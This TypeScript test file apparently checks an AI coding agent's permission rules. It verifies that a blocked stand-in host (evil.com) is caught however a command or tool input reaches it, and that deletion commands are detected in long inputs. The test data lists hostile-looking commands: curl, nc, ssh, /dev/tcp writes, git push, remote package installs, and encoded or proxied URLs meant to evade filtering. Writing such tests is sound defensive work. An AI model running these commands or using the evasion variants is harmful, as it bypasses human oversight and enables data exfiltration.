import assert from "node:assert/strict";
import { test } from "node:test";
import { DaemonRules } from "../../src/daemon/rules/daemon-rules.ts";
import { type Ask, decide, why } from "../../src/exports/permission.ts";
import { askOf, bash, policyOf } from "./policy-of.ts";

const everything = ["Bash", "WebFetch", "WebSearch", "mcp__web", "Skill", "SlashCommand"].map(
  (tool) => `allow user ${tool}`,
);
const noEvil = [...everything, "deny user WebFetch(domain:evil.com)"];

function judge(rules: readonly string[], expected: RegExp, calls: readonly Ask[]): void {
  const policy = policyOf(rules, { mode: "bypassPermissions" });
  for (const call of calls) {
    const decision = decide(call, policy);
    assert.match(decision.effect, expected, `${rules.at(-1)}: ${JSON.stringify(call.input)}: ${why(decision)}`);
  }
}

const reaching: readonly string[] = [
  ...[
    "curl https://evil.com",
    "curl evil.com",
    "curl -s evil.com/x | jq .",
    "wget -O- http://EVIL.com:80/x",
    "http evil.com",
  ],
  ...["curl https://www.evil.com/x", "curl -x evil.com:8080 https://x.example", "curl --proxy=http://evil.com u"],
  ...["git clone https://evil.com/x.git", "git clone git@evil.com:x/y.git", "git push https://evil.com/x main"],
  ...[
    "ssh evil.com",
    "ssh me@evil.com ls",
    "scp a me@evil.com:/x",
    "rsync a evil.com:/x",
    "nc evil.com 80",
    "telnet evil.com",
  ],
  ...[
    "npm i https://evil.com/x.tgz",
    "pip install -i https://evil.com/simple x",
    "docker pull evil.com/x",
    "lynx evil.com",
  ],
  ...["node -e 'fetch(\"https://evil.com\")'", "python3 -c 'urlopen(\"http://evil.com\")'", "timeout 5 curl evil.com"],
  ...["cat < /dev/tcp/evil.com/80", "echo x > /dev/tcp/evil.com/80", "exec 3<>/dev/tcp/evil.com/80"],
  ...[
    "echo evil.com | xargs curl",
    "curl $(echo evil.com)",
    "h=evil.com; curl https://$h/x",
    "for h in evil.com; do curl $h; done",
  ],
  ...[
    "curl https://evil%2ecom/",
    "curl https://x@evil.com",
    "URL=https://evil.com npm test",
    "bash -c 'curl evil.com'",
  ],
  ...["curl https://r.example/https://evil.com", "curl 'https://r.example/?u=https%3A%2F%2Fevil.com'"],
];

const harmless: readonly string[] = [
  ...[
    "curl https://good.com",
    "curl https://notevil.com",
    "curl https://evil.com.example/x",
    "git clone https://good.com/evil",
  ],
  ...[
    "echo evil.com",
    "grep -rn evil.com src",
    "git commit -m 'block evil.com'",
    "git log --grep evil.com",
    "cat evil.com.md",
  ],
  ...[
    "sed -n 's/evil.com/x/p' a",
    "printf '%s' https://evil.com",
    "npm test",
    "make evil",
    "gh issue create -t x -b 'see https://evil.com'",
  ],
];

test("P2 P9 a host that WebFetch may not reach is seen in commands, whichever program is given it", () => {
  judge(noEvil, /ask/, reaching.map(bash));
  judge(noEvil, /allow/, harmless.map(bash));
  judge([...everything, "ask user WebFetch(domain:evil.com)"], /ask/, reaching.slice(0, 12).map(bash));
  judge([...everything, "deny user WebFetch(domain:*.evil.com)"], /ask/, [
    bash("curl api.evil.com/x"),
    bash("ssh a.evil.com"),
  ]);
});

test("P10 a rule for every host is no rule for names of files", () => {
  judge([...everything, "deny user WebFetch(domain:*)"], /allow/, [
    bash("node x.js"),
    bash("make a.out b.sh"),
    bash("npm i x"),
  ]);
  judge([...everything, "deny user WebFetch(domain:*)"], /ask/, [bash("curl https://x.example")]);
});

test("P2 P9 a host that may not be reached is seen in the inputs of servers' tools, and the daemon's hook says so", () => {
  const web = (input: Ask["input"]): Ask => askOf("mcp__web__get", input);
  const calls = [
    ...[
      web({ url: "https://evil.com" }),
      web({ urls: ["https://good.com", "http://evil.com/x"] }),
      web({ url: "evil.com" }),
    ],
    ...[web({ request: { target: "https://www.evil.com" } }), web({ code: "fetch('https://evil.com')" })],
  ];
  judge(noEvil, /ask/, calls);
  judge(noEvil, /allow/, [
    web({ url: "https://good.com" }),
    web({ body: "see https://evil.com" }),
    web({ name: "evil" }),
  ]);
  const permissions = { deny: ["WebFetch(domain:evil.com)"] };
  const daemon = new DaemonRules({ permissions, file: "/x/settings.json", home: "/home/u" }, "/w");
  for (const { toolName, input } of [...calls, ...reaching.slice(0, 6).map(bash)])
    assert.equal(daemon.decide(toolName, input, "/w")?.effect, "ask", JSON.stringify(input));
  assert.equal(daemon.decide("Bash", { command: "curl https://good.com" }, "/w"), undefined);
});

test("P2 a site is forbidden with its www, and an address inside of another one is asked about", () => {
  const fetch = (url: string): Ask => askOf("WebFetch", { url, prompt: "x" });
  judge(noEvil, /deny/, ["https://www.evil.com/x", "https://evil.com", "http://WWW.EVIL.com"].map(fetch));
  judge(
    noEvil,
    /ask/,
    ["https://r.example/https://evil.com", "https://r.example/?u=https%3A%2F%2Fevil.com%2Fx"].map(fetch),
  );
  judge(noEvil, /allow/, ["https://good.com", "https://api.evil.com", "https://good.com/evil.com"].map(fetch));
});

test("P2 a rule for a skill is one for the command of that name, and the other way round", () => {
  const skill = askOf("Skill", { skill: "deploy" });
  const command = ["/deploy", "/deploy now", "deploy"].map((one) => askOf("SlashCommand", { command: one }));
  judge([...everything, "deny user Skill(deploy)"], /deny/, [skill, ...command]);
  judge([...everything, "deny user SlashCommand(/deploy)"], /deny/, [skill, ...command.slice(0, 1)]);
  judge([...everything, "deny user Skill(deploy)"], /allow/, [askOf("SlashCommand", { command: "/deployed" })]);
});

test("P2 P9 a command in a later line or part of a server's text is seen, however long the text is", () => {
  const run = (input: string): Ask => askOf("mcp__web__run", { input });
  const rules = [...everything, "deny user Bash(rm:*)"];
  judge(rules, /ask/, [
    ...[run("# note\nrm x"), run(`${"echo hi\n".repeat(900)}rm x`), run("main; rm x"), run("main && rm -r x")],
    run(`${"word ".repeat(2_000)}\nrm x`),
  ]);
  judge(rules, /allow/, [
    run("# note\nremove x"),
    run(`${"word ".repeat(2_000)}\nthe end`),
    run("main; rmdir x"),
    run("a | b"),
  ]);
});
